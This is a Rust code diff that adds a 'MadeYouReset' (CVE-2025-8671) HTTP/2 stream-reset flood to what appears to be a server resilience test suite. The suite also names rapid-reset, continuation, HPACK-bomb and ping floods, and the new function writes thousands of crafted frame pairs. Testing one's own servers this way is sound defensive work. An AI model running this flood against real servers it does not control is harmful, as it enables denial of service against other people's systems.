@@ -39,6 +39,7 @@ pub fn all() -> Vec<(&'static str, Attack)> {
     }
     vec![
         attack!(repeat rapid_reset),
+        attack!(repeat made_you_reset),
         attack!(repeat continuation_flood),
         attack!(repeat hpack_bomb),
         attack!(repeat ping_flood),
@@ -111,6 +112,41 @@ pub async fn rapid_reset(ctx: &Ctx) -> anyhow::Result<String> {
     raw.closed_within(Duration::from_secs(1)).await;
     Ok(format!(
         "{sent} of {streams} HEADERS+RST_STREAM pairs written; server: {}",
+        raw.seen().describe()
+    ))
+}
+
+/// CVE-2025-8671 ("MadeYouReset"): the client makes the *server* reset each
+/// stream, here with a DATA frame after the stream's END_STREAM (a stream error,
+/// STREAM_CLOSED, RFC 9113 §5.1), so the streams never count as client resets. h2 bounds such resets with
+/// `max_local_error_reset_streams`; hyper's default is 1 024, but tonic 0.14 passes
+/// its own default `None` (no limit) unless
+/// `Server::http2_max_local_error_reset_streams` is set. Observed: h2 treats this
+/// vector as a connection error (GOAWAY PROTOCOL_ERROR), so no reset flood builds.
+pub async fn made_you_reset(ctx: &Ctx) -> anyhow::Result<String> {
+    let streams = ctx.scale.n(10_000);
+    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
+    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
+    let mut sent = 0;
+    let mut batch = Vec::new();
+    for i in 0..streams {
+        let id = 1 + 2 * i as u32;
+        batch.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, id, &block));
+        batch.extend(frame(kind::DATA, 0, id, &[0; 5]));
+        if batch.len() > 64 * 1024 || i + 1 == streams {
+            if !raw.send(&batch).await {
+                break;
+            }
+            sent = i + 1;
+            batch.clear();
+        }
+        if raw.seen().closed {
+            break;
+        }
+    }
+    raw.closed_within(Duration::from_secs(1)).await;
+    Ok(format!(
+        "{sent} of {streams} HEADERS(END_STREAM)+DATA pairs written; server: {}",
         raw.seen().describe()
     ))
 }
